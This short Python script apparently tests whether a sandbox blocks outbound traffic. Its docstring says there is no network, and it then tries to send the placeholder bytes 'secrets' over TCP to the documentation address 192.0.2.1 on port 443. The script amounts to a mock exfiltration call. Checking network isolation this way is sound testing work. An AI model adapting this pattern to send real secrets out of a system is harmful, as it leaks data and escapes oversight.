"""Send something home. There is no network, not even a name server to ask."""

import socket

with socket.create_connection(("192.0.2.1", 443), timeout=5) as connection:
    connection.sendall(b"secrets")
print("sent")
